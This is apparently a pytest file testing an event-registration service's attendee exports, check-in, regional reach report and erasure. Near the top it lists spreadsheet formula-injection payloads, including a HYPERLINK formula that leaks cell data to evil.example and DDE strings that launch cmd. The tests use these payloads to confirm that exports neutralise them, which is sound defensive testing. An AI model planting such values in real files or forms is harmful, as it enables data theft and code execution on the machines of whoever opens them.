"""Organiser data: API.md section 7 - attendee exports (CSV, JSON, XLSX),
check-in, the reach report ("De teller loopt"), erasure and retention, and
the audit log; leerkansctl export, report reach and purge."""

import csv
import io
import json
import os
import re
import socket
import time
import zipfile

import pytest
import requests

from conftest import daemon_env
from harness import (Daemon, assert_json, assert_problem, at, clean_env,
                     compact_json_text, describe, error_fields, free_port,
                     mark_attended, run_ctl, session_body, today, unique)

openpyxl = pytest.importorskip("openpyxl")

SECRET = "organiser-tests-secret-0123456789"
COLUMNS = ["id", "status", "name", "email", "organisation", "enterprise_number",
           "role", "organisation_type", "postcode", "sessions", "registered_at",
           "checked_in_at", "given_name", "family_name"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Hostile values: the API takes these as they are (one line each) ...
HOSTILE_API = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Klik hier")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    'Peeters "de Bakker"; zonen, Brugge',
]
# ... and these come into the table by other ways (an import, a future form)
HOSTILE_DB = ["\t=1+1 tab", "\r=1+1 cr", "twee\nregels; =1+1"]


@pytest.fixture(scope="module")
def sdaemon(pg, workdir):
    """A leerkansd with an erasure secret (the shared daemon has none)."""
    d = Daemon(workdir, "organiser", daemon_env(
        pg, free_port(), extra={"LEERKANS_ERASURE_SECRET": SECRET}))
    d.start()
    try:
        d.wait_ready()
    except BaseException:
        d.kill()
        raise
    yield d
    assert d.stop() == 0, d.stderr_tail()


def reg_body(**fields):
    body = {"given_name": "An", "family_name": "Peeters",
            "email": "%s@example.be" % unique("an"),
            "organisation": "Bakkerij Peeters bv", "role": "employer",
            "organisation_type": "sme", "postcode": "8900",
            "consent": {"privacy": True}}
    if "name" in fields:  # the whole name, as clients of API.md 4 send it
        del body["given_name"], body["family_name"]
    body.update(fields)
    return {k: v for k, v in body.items() if v is not None}


def register(daemon, slug, headers=None, **fields):
    body = reg_body(**fields)
    r = daemon.post("/api/v1/events/%s/registrations" % slug, json=body,
                    headers=headers)
    out = assert_json(r, 201)
    out["_body"] = body
    out["_token"] = out["manage_url"].rsplit("/", 1)[-1]
    return out


def make_event(daemon, token, year=None, **fields):
    from harness import event_body
    if year is not None:
        fields.setdefault("starts_at", at(3, 18, 14, year=year))
        fields.setdefault("ends_at", at(3, 18, 17, year=year))
    body = event_body(**fields)
    r = daemon.post("/api/v1/events", token=token, json=body)
    return assert_json(r, 201)


def export(daemon, token, slug, fmt="csv", **params):
    params["format"] = fmt
    return daemon.get("/api/v1/events/%s/attendees" % slug, token=token,
                      params=params, timeout=60)


def csv_rows(resp, delimiter=","):
    text = resp.content.decode("utf-8")
    if text.startswith("\ufeff"):
        text = text[1:]
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def by_id(rows):
    header = rows[0]
    assert header == COLUMNS, header
    return {int(r[0]): dict(zip(header, r)) for r in rows[1:]}


def workbook(resp):
    assert resp.status_code == 200, describe(resp)
    return openpyxl.load_workbook(io.BytesIO(resp.content))


def reach(daemon, token, year):
    r = daemon.get("/api/v1/stats/reach", token=token, params={"year": year})
    return assert_json(r, 200)


# -- access -----------------------------------------------------------------

def test_every_organiser_route_needs_a_token(daemon, token, new_event):
    ev = new_event()
    for method, path in [
            ("GET", "/api/v1/events/%s/attendees" % ev["slug"]),
            ("POST", "/api/v1/registrations/1/check-in"),
            ("DELETE", "/api/v1/registrations/1/check-in"),
            ("GET", "/api/v1/stats/reach?year=2027"),
            ("POST", "/api/v1/erasure")]:
        r = daemon.request(method, path, json={"email": "x@example.be"})
        assert_problem(r, 401)
        r = daemon.request(method, path, token="not-a-token",
                           json={"email": "x@example.be"})
        assert_problem(r, 401)


# -- exports ------------------------------------------------------------------

def test_csv_export_columns_headers_and_values(daemon, token, new_event):
    ev = new_event()
    a = register(daemon, ev["slug"], given_name="Zoë", family_name="Vermeulen",
                 enterprise_number="0203.201.340", postcode="8630")
    b = register(daemon, ev["slug"], name="Arne Declercq", organisation=None,
                 organisation_type="none", role="job-seeker", postcode=None)
    r = export(daemon, token, ev["slug"])
    assert r.status_code == 200, describe(r)
    assert r.headers["Content-Type"].startswith("text/csv"), r.headers
    assert "charset=utf-8" in r.headers["Content-Type"].lower()
    disp = r.headers.get("Content-Disposition", "")
    assert disp.startswith("attachment"), disp
    assert 'filename="%s-attendees.csv"' % ev["slug"] in disp, disp
    assert r.headers.get("Transfer-Encoding", "").lower() == "chunked"
    assert r.headers.get("Cache-Control") == "no-store"
    assert b"\r\n" in r.content and not r.content.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(r)
    assert [row[2] for row in rows[1:]] == ["Arne Declercq", "Zoë Vermeulen"], \
        "a name without a family name first"
    got = by_id(rows)
    ra = got[a["id"]]
    assert (ra["name"], ra["given_name"], ra["family_name"]) == \
        ("Zoë Vermeulen", "Zoë", "Vermeulen")
    assert (got[b["id"]]["given_name"], got[b["id"]]["family_name"]) == \
        ("Arne Declercq", ""), "a whole name is the given name"
    assert ra["status"] == "confirmed"
    assert ra["email"] == a["_body"]["email"]
    assert ra["organisation"] == "Bakkerij Peeters bv"
    assert ra["enterprise_number"] == "0203201340"
    assert (ra["role"], ra["organisation_type"], ra["postcode"]) == \
        ("employer", "sme", "8630")
    assert re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$",
                    ra["registered_at"]), ra
    assert ra["checked_in_at"] == "" and ra["sessions"] == ""
    rb = got[b["id"]]
    assert rb["organisation"] == "" and rb["postcode"] == ""
    assert rb["role"] == "job-seeker"


def test_exports_sort_by_family_name_then_given_name_in_dutch(daemon, token,
                                                            new_event):
    """API.md section 11: Éliaerts between Eeckhout and Elst (not after
    Zeeman, as bytes would have it), case and accents only between names
    otherwise equal; "Van Damme" under V; a name without a family name
    first."""
    ev = new_event(capacity=None)
    people = [("An", "Zeeman"), ("Cis", "Elst"), ("Arne", "Éliaerts"),
              ("Daan", "Eeckhout"), ("Bart", "Eeckhout"), ("Jo", "van Damme"),
              ("Mia", "Van Acker"), ("Ella", "eeckhout"), ("Ümit", "Aydın")]
    for given, family in people:
        register(daemon, ev["slug"], given_name=given, family_name=family)
    register(daemon, ev["slug"], name="Xavier Heel")
    want = ["Xavier Heel", "Ümit Aydın", "Bart Eeckhout", "Daan Eeckhout",
            "Ella eeckhout", "Arne Éliaerts", "Cis Elst", "Mia Van Acker",
            "Jo van Damme", "An Zeeman"]
    rows = csv_rows(export(daemon, token, ev["slug"]))
    assert [r[2] for r in rows[1:]] == want
    doc = assert_json(export(daemon, token, ev["slug"], fmt="json"), 200)
    assert [x["name"] for x in doc["attendees"]] == want
    assert [(x["given_name"], x["family_name"]) for x in doc["attendees"]][:2] \
        == [("Xavier Heel", ""), ("Ümit", "Aydın")]
    ws = workbook(export(daemon, token, ev["slug"], fmt="xlsx")).worksheets[0]
    assert [row[2] for row in ws.iter_rows(min_row=2, values_only=True)] == want
    assert [row[13] for row in ws.iter_rows(min_row=2, max_row=3,
                                            values_only=True)] == [None, "Aydın"]


def hostile_event(daemon, token, pg):
    """An event whose attendees have hostile names and organisations."""
    ev = make_event(daemon, token)
    want = {}
    for i, text in enumerate(HOSTILE_API):
        reg = register(daemon, ev["slug"], name=text,
                       organisation=HOSTILE_API[-1 - i],
                       email="%s@example.be" % unique("h"))
        want[reg["id"]] = (text, HOSTILE_API[-1 - i])
    for text in HOSTILE_DB:
        reg = register(daemon, ev["slug"], name="placeholder")
        pg.psql("UPDATE registrations SET given_name = %s, organisation = %s "
                "WHERE id = %d" % (pg_literal(text), pg_literal(text),
                                   reg["id"]))
        want[reg["id"]] = (text, text)
    return ev, want


def pg_literal(text):
    return "E'" + text.replace("\\", "\\\\").replace("'", "\\'") \
        .replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n") + "'"


def defused(text):
    return "'" + text if text.startswith(DANGEROUS) else text


@pytest.mark.parametrize("delimiter", ["comma", "semicolon"])
def test_csv_defuses_hostile_cells_and_keeps_their_text(daemon, token, pg,
                                                         delimiter):
    ev, want = hostile_event(daemon, token, pg)
    r = export(daemon, token, ev["slug"], delimiter=delimiter)
    assert r.status_code == 200, describe(r)
    if delimiter == "semicolon":
        assert r.content.startswith(b"\xef\xbb\xbf"), "BOM for spreadsheets"
    rows = csv_rows(r, ";" if delimiter == "semicolon" else ",")
    got = by_id(rows)
    assert set(got) == set(want)
    for rid, (name, org) in want.items():
        assert got[rid]["name"] == defused(name), (got[rid]["name"], name)
        assert got[rid]["given_name"] == defused(name), got[rid]["given_name"]
        assert got[rid]["organisation"] == defused(org)
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), repr(cell)
    # every cell with either separator is quoted, whatever the delimiter
    raw = r.content.decode("utf-8")
    assert '"Peeters ""de Bakker""; zonen, Brugge"' in raw


def test_xlsx_is_a_real_workbook_with_strings_never_formulas(daemon, token, pg):
    ev, want = hostile_event(daemon, token, pg)
    first = min(want)
    mark_attended(pg, first)
    r = export(daemon, token, ev["slug"], fmt="xlsx")
    assert r.status_code == 200, describe(r)
    assert r.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert 'filename="%s-attendees.xlsx"' % ev["slug"] in \
        r.headers["Content-Disposition"]
    assert int(r.headers["Content-Length"]) == len(r.content)
    # a known length is sent plain: never both framings at once
    assert "Transfer-Encoding" not in r.headers, r.headers
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = z.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, "a formula cell"
    wb = workbook(r)
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    assert header == COLUMNS
    assert all(c.font.b for c in ws[1]), "bold header"
    assert ws.freeze_panes == "A2", ws.freeze_panes
    assert ws.auto_filter.ref == "A1:N%d" % (len(want) + 1), ws.auto_filter.ref
    seen = {}
    for row in ws.iter_rows(min_row=2):
        rid = row[0].value
        assert isinstance(rid, (int, float)), rid
        seen[int(rid)] = row
    assert set(seen) == set(want)
    for rid, (name, org) in want.items():
        row = seen[rid]
        for cell, text in ((row[2], name), (row[4], org), (row[12], name)):
            assert cell.data_type == "s", (cell.data_type, cell.value)
            value = cell.value
            # OOXML writes a CR as _x000D_ (Excel reads it back as a CR)
            assert value.replace("_x000D_", "\r") == text, (value, text)
        assert row[10].is_date, row[10].number_format
        assert row[11].value is None or row[11].is_date
    assert seen[first][11].is_date, "checked-in time is a date"


def test_json_export_and_the_filters(daemon, token, new_event):
    ev = new_event(capacity=1)
    s1 = daemon.post("/api/v1/events/%s/sessions" % ev["slug"], token=token,
                     json=session_body(capacity=5))
    s1 = assert_json(s1, 201)["slug"]
    a = register(daemon, ev["slug"], name="Anna", sessions=[s1])
    b = register(daemon, ev["slug"], name="Bert", sessions=[s1])
    c = register(daemon, ev["slug"], name="Carla")
    assert (a["status"], b["status"], c["status"]) == \
        ("confirmed", "waitlisted", "waitlisted")
    r = daemon.request("DELETE", "/api/v1/registrations/" + c["_token"])
    assert r.status_code == 200, describe(r)

    def ids(**params):
        r = export(daemon, token, ev["slug"], fmt="json", **params)
        doc = assert_json(r, 200)
        assert doc["event"] == ev["slug"]
        assert doc["count"] == len(doc["attendees"])
        return {x["id"]: x for x in doc["attendees"]}

    active = ids()
    assert set(active) == {a["id"], b["id"]}
    x = active[a["id"]]
    assert set(x) == set(COLUMNS)
    assert x["sessions"] == [{"slug": s1, "status": "confirmed"}]
    assert active[b["id"]]["sessions"] == [{"slug": s1, "status": "waitlisted"}]
    assert set(ids(status="confirmed")) == {a["id"]}
    assert set(ids(status="waitlisted")) == {b["id"]}
    assert set(ids(status="cancelled")) == {c["id"]}
    assert set(ids(status="all")) == {a["id"], b["id"], c["id"]}
    assert set(ids(session=s1)) == {a["id"], b["id"]}
    only = ids(session=s1, status="waitlisted")
    assert set(only) == {b["id"]} and only[b["id"]]["status"] == "waitlisted"

    r = export(daemon, token, ev["slug"], fmt="csv", session=s1)
    assert 'filename="%s-%s-attendees.csv"' % (ev["slug"], s1) in \
        r.headers["Content-Disposition"]
    rows = by_id(csv_rows(r))
    assert rows[a["id"]]["sessions"] == s1
    assert rows[b["id"]]["sessions"] == "%s (waitlisted)" % s1


def test_export_refusals(daemon, token, new_event):
    ev = new_event()
    assert_problem(export(daemon, token, unique("no-such-event")), 404)
    p = assert_problem(export(daemon, token, ev["slug"], fmt="xls",
                              status="gone", delimiter="tab"), 422)
    assert {"format", "status", "delimiter"} <= error_fields(p), p
    p = assert_problem(export(daemon, token, ev["slug"],
                              session="no-such-session"), 422)
    assert "session" in error_fields(p)


def test_head_gives_the_headers_without_an_audit_entry(daemon, token, pg,
                                                       new_event):
    ev = new_event()
    before = pg.psql("SELECT count(*) FROM audit_log")[0][0]
    r = daemon.request("HEAD", "/api/v1/events/%s/attendees?format=csv"
                       % ev["slug"], token=token)
    assert r.status_code == 200, describe(r)
    assert r.content == b""
    assert r.headers["Content-Type"].startswith("text/csv")
    assert pg.psql("SELECT count(*) FROM audit_log")[0][0] == before


def test_every_export_is_audited_without_personal_data(daemon, token, pg,
                                                        new_event):
    ev = new_event()
    reg = register(daemon, ev["slug"])
    name = pg.psql("SELECT name FROM organiser_tokens WHERE token_hash = "
                   "sha256(convert_to('%s', 'UTF8'))" % token)[0][0]
    for fmt in ("csv", "json", "xlsx"):
        assert export(daemon, token, ev["slug"], fmt=fmt,
                      status="all").status_code == 200
    rows = pg.psql("SELECT actor, action, detail::text FROM audit_log "
                   "WHERE event_slug = '%s' ORDER BY id" % ev["slug"])
    assert [(r[0], r[1]) for r in rows] == [(name, "export")] * 3
    assert [json.loads(r[2])["format"] for r in rows] == ["csv", "json", "xlsx"]
    dump = json.dumps(rows)
    assert reg["_body"]["email"] not in dump and "Peeters" not in dump


def test_a_big_export_streams_while_others_are_served(pg, start_daemon, token):
    """3000 attendees: the reply comes in chunks; a client that reads
    slowly or hangs up holds no connection of the small pool for good."""
    d = start_daemon(env={"LEERKANS_POOL_SIZE": "2"})
    ev = make_event(d, token, capacity=None)
    eid = pg.psql("SELECT id FROM events WHERE slug = '%s'" % ev["slug"])[0][0]
    pg.psql(
        "INSERT INTO registrations (event_id, token_hash, status, given_name,"
        " family_name, email, email_norm, organisation, role,"
        " organisation_type, postcode, consented_at)"
        " SELECT %s, sha256(convert_to('big-%s-' || i, 'UTF8')), 'confirmed',"
        " 'Deelnemer', 'Nummer ' || i, 'd' || i || '@big.example.be',"
        " 'd' || i || '@big.example.be', 'Org ' || (i %% 50), 'employee',"
        " 'sme', '8500', now() FROM generate_series(1, 3000) AS i"
        % (eid, ev["slug"]))
    url = d.url + "/api/v1/events/%s/attendees?format=csv" % ev["slug"]
    auth = {"Authorization": "Bearer " + token}

    # a client that takes a few bytes, then goes away, several times over
    for _ in range(4):
        with requests.get(url, headers=auth, stream=True, timeout=30) as r:
            assert r.status_code == 200
            next(r.iter_content(1024))
        # while a slow reader holds its cursor, others are served
        assert d.get("/healthz").status_code == 200
        assert d.get("/api/v1/events/" + ev["slug"]).status_code == 200

    r = requests.get(url, headers=auth, timeout=60)
    assert r.status_code == 200
    assert r.headers.get("Transfer-Encoding", "").lower() == "chunked"
    rows = csv_rows(r)
    assert len(rows) == 3001
    assert len({row[0] for row in rows[1:]}) == 3000
    doc = assert_json(requests.get(url.replace("csv", "json"), headers=auth,
                                   timeout=60), 200)
    assert doc["count"] == 3000
    wb = workbook(requests.get(url.replace("csv", "xlsx"), headers=auth,
                               timeout=60))
    assert wb.worksheets[0].max_row == 3001
    assert d.get("/readyz").status_code == 200
    log = d.stderr_text()
    assert "@big.example.be" not in log and "Deelnemer" not in log


def test_a_client_that_stops_reading_does_not_stall_the_daemon(pg,
                                                               start_daemon,
                                                               token):
    d = start_daemon(env={"LEERKANS_POOL_SIZE": "2",
                          "LEERKANS_IDLE_TIMEOUT": "2"})
    ev = make_event(d, token, capacity=None)
    eid = pg.psql("SELECT id FROM events WHERE slug = '%s'" % ev["slug"])[0][0]
    pg.psql(
        "INSERT INTO registrations (event_id, token_hash, status, given_name,"
        " family_name, email, email_norm, role, organisation_type,"
        " consented_at)"
        " SELECT %s, sha256(convert_to('stall-%s-' || i, 'UTF8')),"
        " 'confirmed', repeat('x', 150) || i, '', 's' || i || '@stall.example.be',"
        " 's' || i || '@stall.example.be', 'employee', 'sme', now()"
        " FROM generate_series(1, 20000) AS i" % (eid, ev["slug"]))
    s = socket.create_connection(("127.0.0.1", d.port), timeout=10)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.sendall(("GET /api/v1/events/%s/attendees?format=csv HTTP/1.1\r\n"
               "Host: x\r\nAuthorization: Bearer %s\r\n\r\n"
               % (ev["slug"], token)).encode())
    assert s.recv(64).startswith(b"HTTP/1.1 200")
    # the client reads no more; the daemon must go on serving others
    t0 = time.monotonic()
    for _ in range(5):
        assert d.get("/healthz", timeout=5).status_code == 200
        assert d.get("/api/v1/events/" + ev["slug"], timeout=5).status_code \
            == 200
    assert time.monotonic() - t0 < 10
    # evhttp gives up on the silent client; its cursor is let go
    time.sleep(3.5)
    s.close()
    for _ in range(3):
        r = d.get("/api/v1/events/%s/attendees?format=json&status=all"
                  % ev["slug"], token=token, timeout=30)
        assert r.status_code == 200 and r.json()["count"] == 20000


def test_a_stream_the_database_stops_feeding_is_cut_short(own_cluster,
                                                          start_daemon):
    """The reply has begun when the database hangs: the client must see an
    incomplete reply (no last chunk), not a short list that looks whole."""
    env = clean_env(LEERKANS_DATABASE_URL=own_cluster.dsn())
    tok = run_ctl("token", "create", unique("org"), env=env).stdout.strip()
    d = start_daemon(cluster=own_cluster, env={"LEERKANS_REQUEST_TIMEOUT": "2"})
    ev = make_event(d, tok, capacity=None)
    own_cluster.psql(
        "INSERT INTO registrations (event_id, token_hash, status, given_name,"
        " family_name, email, email_norm, role, organisation_type,"
        " consented_at)"
        " SELECT e.id, sha256(convert_to('cut-' || i, 'UTF8')), 'confirmed',"
        " repeat('y', 400) || i, '', 'c' || i || '@cut.example.be',"
        " 'c' || i || '@cut.example.be', 'employee', 'sme', now()"
        " FROM events e, generate_series(1, 60000) AS i"
        " WHERE e.slug = '%s'" % ev["slug"])
    # 27 MB: more than the kernel's socket buffers hold, so the daemon is
    # still fetching when the database stops
    s = socket.create_connection(("127.0.0.1", d.port), timeout=20)
    s.sendall(("GET /api/v1/events/%s/attendees?format=csv HTTP/1.1\r\n"
               "Host: x\r\nAuthorization: Bearer %s\r\n\r\n"
               % (ev["slug"], tok)).encode())
    got = s.recv(64)
    assert got.startswith(b"HTTP/1.1 200"), got
    time.sleep(0.5)  # the buffers fill; the daemon waits for the client
    own_cluster.freeze()
    try:
        t0 = time.monotonic()
        tail = b""
        while True:
            block = s.recv(65536)
            if not block:
                break
            tail = (tail + block)[-16:]
        assert time.monotonic() - t0 < 15
        assert not tail.endswith(b"0\r\n\r\n"), "the reply looks whole"
        assert d.get("/healthz", timeout=5).status_code == 200
    finally:
        own_cluster.thaw()
        s.close()
    assert "(cut short)" in d.stderr_text()
    r = d.get("/api/v1/events/%s/attendees?format=json" % ev["slug"],
              token=tok, timeout=60)
    assert r.status_code == 200 and r.json()["count"] == 60000


# -- check-in -------------------------------------------------------------------

def test_check_in_records_and_undoes_attendance(daemon, token, new_event):
    ev = new_event(**today())
    reg = register(daemon, ev["slug"])
    path = "/api/v1/registrations/%d/check-in" % reg["id"]
    first = assert_json(daemon.post(path, token=token), 200)
    assert first["id"] == reg["id"] and first["checked_in_at"]
    assert re.match(r".*[+-]\d\d:\d\d$", first["checked_in_at"])
    time.sleep(1.1)
    again = assert_json(daemon.post(path, token=token), 200)
    assert again["checked_in_at"] == first["checked_in_at"], \
        "checking in twice keeps the first time"
    rows = by_id(csv_rows(export(daemon, token, ev["slug"])))
    assert rows[reg["id"]]["checked_in_at"] == first["checked_in_at"]
    doc = assert_json(export(daemon, token, ev["slug"], fmt="json",
                             status="checked-in"), 200)
    assert [x["id"] for x in doc["attendees"]] == [reg["id"]]

    undone = assert_json(daemon.request("DELETE", path, token=token), 200)
    assert undone["checked_in_at"] is None
    rows = by_id(csv_rows(export(daemon, token, ev["slug"])))
    assert rows[reg["id"]]["checked_in_at"] == ""
    doc = assert_json(export(daemon, token, ev["slug"], fmt="json",
                             status="checked-in"), 200)
    assert doc["attendees"] == []


def test_check_in_refusals(daemon, token, new_event):
    ev = new_event(**today())
    reg = register(daemon, ev["slug"])
    assert_problem(daemon.post("/api/v1/registrations/999999999/check-in",
                               token=token), 404)
    assert_problem(daemon.post("/api/v1/registrations/abc/check-in",
                               token=token), 404)
    assert_problem(daemon.post("/api/v1/registrations/%s/check-in"
                               % reg["_token"], token=token), 404)
    r = daemon.request("DELETE", "/api/v1/registrations/" + reg["_token"])
    assert r.status_code == 200
    p = assert_problem(daemon.post("/api/v1/registrations/%d/check-in"
                                   % reg["id"], token=token), 409)
    assert p["type"].endswith("/registration-cancelled"), p


# -- the reach report -----------------------------------------------------------

def test_reach_counts_per_kind_and_in_total(daemon, token, pg):
    year = 2041
    net = make_event(daemon, token, year=year, kind="network-event",
                     capacity=None)
    aca = make_event(daemon, token, year=year, kind="academy-session",
                     capacity=None)
    draft = make_event(daemon, token, year=year, kind="academy-session",
                       status="draft")
    make_event(daemon, token, year=year, kind="sme-info-session")
    same = "%s@example.be" % unique("same")
    r1 = register(daemon, net["slug"], email=same, role="employer",
                  organisation="Bakkerij Peeters bv",
                  enterprise_number="0203.201.340", postcode="8000")
    register(daemon, aca["slug"], email=same.upper(), role="employer",
             organisation="Peeters (andere naam)",
             enterprise_number="BE0203201340", postcode="8000")
    register(daemon, net["slug"], role="intermediary",
             organisation_type="intermediary", organisation="VDAB Ieper",
             postcode="8900")
    register(daemon, net["slug"], role="employee", organisation="vdab  ieper.",
             organisation_type="government", postcode="1000")
    register(daemon, aca["slug"], role="citizen", organisation=None,
             organisation_type="none", postcode=None)
    gone = register(daemon, aca["slug"], role="student", postcode="8630")
    daemon.request("DELETE", "/api/v1/registrations/" + gone["_token"])
    # drafts are not held; their registrations do not count either
    pg.psql("UPDATE events SET status = 'published' WHERE slug = '%s'"
            % draft["slug"])
    register(daemon, draft["slug"], role="other", postcode="8600")
    pg.psql("UPDATE events SET status = 'cancelled' WHERE slug = '%s'"
            % draft["slug"])
    mark_attended(pg, r1["id"])

    rep = reach(daemon, token, year)
    assert rep["year"] == year
    assert rep["from"] == "%d-01-01T00:00:00+01:00" % year
    kinds = {k["kind"]: k["counts"] for k in rep["kinds"]}
    assert set(kinds) == {"network-event", "academy-session", "sme-info-session"}
    total = rep["total"]
    assert total["events"] == 3 and total["events_held"] == 0
    assert total["registrations"] == 5
    assert total["attended"] == 1
    assert total["people"] == 4, "one person at two events counts once"
    assert total["organisations"] == 2, \
        "same enterprise number, and the same name normalised, count once"
    assert total["by_role"] == {"employer": 2, "employee": 1, "job-seeker": 0,
                                "intermediary": 1, "training-provider": 0,
                                "student": 0, "citizen": 1, "other": 0}
    assert total["by_organisation_type"]["sme"] == 2
    assert total["by_organisation_type"]["none"] == 1
    assert total["by_organisation_type"]["government"] == 1
    assert total["by_region"]["brugge"] == 2
    assert total["by_region"]["ieper"] == 1
    assert total["by_region"]["outside-west-flanders"] == 1
    assert total["by_region"]["unknown"] == 1
    assert total["westhoek"] == 1
    n = kinds["network-event"]
    assert (n["events"], n["registrations"], n["people"], n["attended"]) == \
        (1, 3, 3, 1)
    a = kinds["academy-session"]
    assert (a["events"], a["registrations"], a["people"]) == (1, 2, 2)
    assert kinds["sme-info-session"]["registrations"] == 0
    assert kinds["sme-info-session"]["events"] == 1


def test_westhoek_counts_diksmuide_ieper_and_veurne(daemon, token):
    year = 2042
    ev = make_event(daemon, token, year=year, capacity=None)
    for pc in ("8900", "8630", "8600", "8640", "8500", "8400", "8820", "8099",
               "9000"):
        register(daemon, ev["slug"], postcode=pc)
    reg = reach(daemon, token, year)["total"]["by_region"]
    assert (reg["ieper"], reg["veurne"], reg["diksmuide"]) == (2, 1, 1)
    assert reach(daemon, token, year)["total"]["westhoek"] == 4
    assert (reg["kortrijk"], reg["oostende"], reg["brugge"]) == (1, 1, 1)
    assert reg["unknown"] == 1, "8099 is no West Flemish place"
    assert reg["outside-west-flanders"] == 1


def test_postcode_map_spot_checks(pg):
    want = {"8000": "brugge", "8300": "brugge", "8380": "brugge",
            "8400": "oostende", "8480": "oostende", "8490": "brugge",
            "8500": "kortrijk", "8587": "kortrijk", "8600": "diksmuide",
            "8610": "diksmuide", "8620": "veurne", "8630": "veurne",
            "8640": "ieper", "8647": "diksmuide", "8650": "diksmuide",
            "8660": "veurne", "8670": "veurne", "8680": "diksmuide",
            "8690": "veurne", "8700": "tielt", "8730": "brugge",
            "8770": "roeselare", "8790": "kortrijk", "8800": "roeselare",
            "8820": "brugge", "8850": "tielt", "8860": "kortrijk",
            "8900": "ieper", "8920": "ieper", "8930": "kortrijk",
            "8940": "ieper", "8950": "ieper", "8957": "ieper",
            "8970": "ieper", "8980": "ieper"}
    rows = dict(pg.psql("SELECT postcode, arrondissement FROM wvl_postcodes"))
    for pc, arr in want.items():
        assert rows.get(pc) == arr, (pc, rows.get(pc), arr)
    assert all("8000" <= pc <= "8999" for pc in rows)
    assert pg.psql("SELECT lk_region('2000'), lk_region(NULL)") == \
        [["outside-west-flanders", "unknown"]]


def test_reach_refusals(daemon, token):
    p = assert_problem(daemon.get("/api/v1/stats/reach?year=twenty",
                                  token=token), 422)
    assert "year" in error_fields(p)
    p = assert_problem(daemon.get("/api/v1/stats/reach?year=1800&format=xml"
                                  "&delimiter=tab", token=token), 422)
    assert {"year", "format", "delimiter"} <= error_fields(p), p
    r = daemon.get("/api/v1/stats/reach", token=token)
    assert assert_json(r, 200)["year"] >= 2026
    r = daemon.get("/api/v1/stats/reach?format=json", token=token)
    assert assert_json(r, 200)["year"] >= 2026


def test_reach_as_csv_for_a_spreadsheet(daemon, token):
    """format=csv: a row per count, a column per kind and the total: the
    same numbers as the JSON."""
    year = 2045
    ev = make_event(daemon, token, year=year, kind="network-event",
                    capacity=None)
    for pc, role in (("8900", "employer"), ("8630", "employee"), ("8000", "employer")):
        register(daemon, ev["slug"], postcode=pc, role=role)
    rep = reach(daemon, token, year)
    r = daemon.get("/api/v1/stats/reach", token=token,
                   params={"year": year, "format": "csv"})
    assert r.status_code == 200, describe(r)
    assert r.headers["Content-Type"].startswith("text/csv; charset=utf-8")
    assert 'filename="reach-%d.csv"' % year in r.headers["Content-Disposition"]
    assert r.content.endswith(b"\r\n") and not r.content.startswith(b"\xef")
    rows = csv_rows(r)
    kinds = [k["kind"] for k in rep["kinds"]]
    assert rows[0] == ["measure"] + kinds + ["total"], rows[0]
    got = {row[0]: [int(v) for v in row[1:]] for row in rows[1:]}
    assert len(got) == len(rows) - 1, "each measure once"

    def counts(c):
        out = {}
        for key, v in c.items():
            if isinstance(v, dict):
                out.update({"%s.%s" % (key, k): n for k, n in v.items()})
            else:
                out[key] = v
        return out
    cols = [counts(k["counts"]) for k in rep["kinds"]] + [counts(rep["total"])]
    assert set(got) == set(cols[-1]), set(got) ^ set(cols[-1])
    for measure, values in got.items():
        assert values == [c[measure] for c in cols], measure
    assert got["registrations"][-1] == 3 and got["westhoek"][-1] == 2
    assert got["by_role.employer"][kinds.index("network-event")] == 2

    semi = daemon.get("/api/v1/stats/reach", token=token,
                      params={"year": year, "format": "csv",
                              "delimiter": "semicolon"})
    assert semi.status_code == 200 and semi.content.startswith(b"\xef\xbb\xbf")
    assert csv_rows(semi, delimiter=";") == rows


# -- erasure ----------------------------------------------------------------------

def test_erasure_removes_the_person_and_keeps_the_counts(sdaemon, token, pg):
    year = 2043
    ev1 = make_event(sdaemon, token, year=year, capacity=None)
    ev2 = make_event(sdaemon, token, year=year, kind="network-event",
                     capacity=None)
    email = "%s@example.be" % unique("wis")
    given = "Wisse-%s" % unique("voornaam")
    name = "Naam-%s" % unique("familie")  # the family name: in both rows
    org = "Firma %s nv" % unique("org")
    keep = register(sdaemon, ev1["slug"], given_name="Blijft",
                    family_name="Staan", organisation=org)
    a = register(sdaemon, ev1["slug"], email=email, given_name=given,
                 family_name=name, organisation=org,
                 enterprise_number="0203.201.340", postcode="8900",
                 headers={"Idempotency-Key": unique("idem")})
    b = register(sdaemon, ev2["slug"], email=email.upper(),
                 name="%s %s" % (given, name),
                 organisation="Nog een %s" % unique("org"), postcode="8630")
    mark_attended(pg, a["id"])
    # ev1 took place (30 years earlier, a year of its own); ev2 is to come
    past = year - 30
    pg.psql("UPDATE events SET starts_at = starts_at - interval '30 years', "
            "ends_at = ends_at - interval '30 years' WHERE slug = '%s'"
            % ev1["slug"])
    before = reach(sdaemon, token, past)
    assert before["total"]["people"] == 2
    assert before["total"]["organisations"] == 2
    assert before["total"]["attended"] == 1
    for ev in (ev1, ev2):
        assert email in export(sdaemon, token, ev["slug"]).text.lower()

    r = sdaemon.post("/api/v1/erasure", token=token,
                     json={"email": email.upper()})
    # the seat b held in the event to come is given up (lk_erase)
    assert assert_json(r, 200) == {"erased": 2, "seats_freed": 1}

    for ev in (ev1, ev2):
        for fmt in ("csv", "json"):
            text = export(sdaemon, token, ev["slug"], fmt=fmt,
                          status="all").text
            assert email not in text.lower() and name not in text, fmt
            assert given not in text, fmt
        wb = workbook(export(sdaemon, token, ev["slug"], fmt="xlsx",
                             status="all"))
        cells = [c for row in wb.worksheets[0].iter_rows(values_only=True)
                 for c in row]
        assert not any(isinstance(c, str) and (name in c or given in c)
                       for c in cells) and email not in cells
